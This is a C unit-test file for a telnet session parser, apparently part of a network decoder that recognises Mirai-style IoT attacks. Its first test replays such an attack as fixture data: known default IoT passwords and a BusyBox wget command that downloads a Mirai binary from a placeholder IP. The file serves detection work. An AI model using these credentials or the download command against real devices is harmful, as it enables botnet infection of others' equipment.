/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The telnet session parser: a Mirai-style session (negotiation, a refused and an accepted
 * login, commands), line endings, editing, option sub-negotiation, long lines, and the same
 * events whatever the segmentation. */
#include "decode-testlib.h"

#include <stdio.h>

#include "app/app-telnet.h"

struct ev_log {
    unsigned n;
    enum iot_telnet_event_type type[32];
    char text[32][IOT_TELNET_LINE_MAX];
    char user[32][64];
    bool cut[32];
};

static void on_event(void *user, const struct iot_telnet_event *ev)
{
    struct ev_log *l = user;
    if (l->n == 32)
        return;
    l->type[l->n] = ev->type;
    snprintf(l->text[l->n], sizeof(l->text[0]), "%s", ev->text);
    snprintf(l->user[l->n], sizeof(l->user[0]), "%s", ev->user ? ev->user : "");
    l->cut[l->n] = ev->truncated;
    l->n++;
}

static void srv(struct iot_telnet *t, struct ev_log *l, const char *s, size_t n)
{
    iot_telnet_feed(t, false, (const uint8_t *)s, n, on_event, l);
}

static void cli(struct iot_telnet *t, struct ev_log *l, const char *s, size_t n)
{
    iot_telnet_feed(t, true, (const uint8_t *)s, n, on_event, l);
}

#define S(t, l, lit) srv(t, l, lit, sizeof(lit) - 1)
#define C(t, l, lit) cli(t, l, lit, sizeof(lit) - 1)

static void test_mirai_session(void **state)
{
    (void)state;
    struct iot_telnet t = {0};
    struct ev_log l = {0};
    S(&t, &l, "\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01");
    C(&t, &l, "\xff\xfc\x18\xff\xfc\x20\xff\xfd\x01");
    assert_true(iot_telnet_looks_like((const uint8_t *)"\xff\xfd\x18", 3));
    S(&t, &l, "\r\nlogin: ");
    C(&t, &l, "root\r\n");
    S(&t, &l, "Password: ");
    C(&t, &l, "xc3511\r\n");
    S(&t, &l, "\r\nLogin incorrect\r\n\r\nlogin: ");
    C(&t, &l, "admin\r\n");
    S(&t, &l, "Password: ");
    C(&t, &l, "admin\r\n");
    S(&t, &l, "\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n\r\n# ");
    C(&t, &l, "/bin/busybox wget http://198.51.100.23/bins/mirai.arm7 -O /tmp/.m\r\n");
    static const enum iot_telnet_event_type want[] = {
        IOT_TELNET_USERNAME, IOT_TELNET_PASSWORD, IOT_TELNET_LOGIN_FAILED, IOT_TELNET_USERNAME,
        IOT_TELNET_PASSWORD, IOT_TELNET_LOGIN_OK, IOT_TELNET_COMMAND};
    assert_int_equal(l.n, 7);
    for (unsigned i = 0; i < 7; i++)
        if (l.type[i] != want[i])
            fail_msg("event %u: %s, want %s", i, iot_telnet_event_name(l.type[i]),
                     iot_telnet_event_name(want[i]));
    assert_string_equal(l.text[0], "root");
    assert_string_equal(l.text[1], "xc3511");
    assert_string_equal(l.user[1], "root");
    assert_string_equal(l.user[4], "admin");
    assert_string_equal(l.text[6], "/bin/busybox wget http://198.51.100.23/bins/mirai.arm7 -O /tmp/.m");
    assert_true(t.negotiations >= 6);
    /* The password line is wiped from the parser once handed over. */
    for (size_t i = 0; i < sizeof(t.line); i++)
        assert_int_equal(t.line[i], 0);
}

/* CR NUL and CR LF end one line, a lone LF too; backspace edits; IAC IAC is a 255 byte;
 * a sub-negotiation's bytes are not data. */
static void test_line_editing_and_iac(void **state)
{
    (void)state;
    struct iot_telnet t = {0};
    struct ev_log l = {0};
    S(&t, &l, "Username: ");
    C(&t, &l, "adm\x08\x08" "dmin\r");
    cli(&t, &l, "\0", 1);
    S(&t, &l, "password:");
    C(&t, &l, "p\xff\xff" "ss\xff\xfa\x18\x00xterm\xff\xf0\n");
    assert_int_equal(l.n, 2);
    assert_string_equal(l.text[0], "admin");
    assert_string_equal(l.text[1], "p\xff" "ss");
}

static void test_long_line_cut(void **state)
{
    (void)state;
    struct iot_telnet t = {0};
    struct ev_log l = {0};
    S(&t, &l, "$ ");
    char big[IOT_TELNET_LINE_MAX + 50];
    memset(big, 'x', sizeof(big));
    cli(&t, &l, big, sizeof(big));
    C(&t, &l, "\r\n");
    assert_int_equal(l.n, 1);
    assert_int_equal(l.type[0], IOT_TELNET_COMMAND);
    assert_true(l.cut[0]);
    assert_int_equal(strlen(l.text[0]), IOT_TELNET_LINE_MAX - 1);
}

/* The session above, fed one byte at a time, says exactly the same. */
static void test_segmentation_invariance(void **state)
{
    (void)state;
    static const char s1[] = "\xff\xfd\x18\r\nlogin: ", c1[] = "root\r\n", s2[] = "Password: ",
                      c2[] = "vizxv\r\n", s3[] = "\r\nLogin incorrect\r\nlogin: ";
    const char *parts[] = {s1, c1, s2, c2, s3};
    const size_t lens[] = {sizeof(s1) - 1, sizeof(c1) - 1, sizeof(s2) - 1, sizeof(c2) - 1,
                           sizeof(s3) - 1};
    struct iot_telnet a = {0}, b = {0};
    struct ev_log la = {0}, lb = {0};
    for (int i = 0; i < 5; i++) {
        bool to_server = i % 2 == 1;
        iot_telnet_feed(&a, to_server, (const uint8_t *)parts[i], lens[i], on_event, &la);
        for (size_t k = 0; k < lens[i]; k++)
            iot_telnet_feed(&b, to_server, (const uint8_t *)parts[i] + k, 1, on_event, &lb);
    }
    assert_int_equal(la.n, 3);
    assert_int_equal(lb.n, la.n);
    assert_memory_equal(&la, &lb, sizeof(la));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_mirai_session),
        cmocka_unit_test(test_line_editing_and_iac),
        cmocka_unit_test(test_long_line_cut),
        cmocka_unit_test(test_segmentation_invariance),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
